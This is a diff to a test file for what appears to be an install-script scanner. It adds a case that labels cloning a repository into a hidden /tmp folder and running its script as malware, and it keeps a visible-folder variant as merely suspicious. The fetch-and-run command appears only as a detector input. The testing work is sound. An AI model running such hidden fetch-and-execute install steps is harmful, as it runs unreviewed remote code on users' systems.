@@ -48,8 +48,12 @@ test('a file that one part of a line fetches and a later one starts is a downloa
 });
 
 test('a clone of which a script is started is suspicious, a clone that a build compiles is not told', async () => {
-  expect(await atInstall('git clone -q https://github.com/example/tool /tmp/.t && python3 /tmp/.t/main.py')).toEqual([
+  expect(await atInstall('git clone -q https://github.com/example/tool tool && python3 tool/main.py')).toEqual([
     ['suspicious', 'Starts what it cloned before.'],
+  ]);
+  // no build keeps what it needs in a folder that is hidden among temporary files
+  expect(await atInstall('git clone -q https://github.com/example/tool /tmp/.t && python3 /tmp/.t/main.py')).toEqual([
+    ['malware', 'Starts what it cloned out of sight before.'],
   ]);
   expect(await atInstall('git clone https://github.com/example/lib && cd lib && cmake . && make')).toEqual([]);
 });
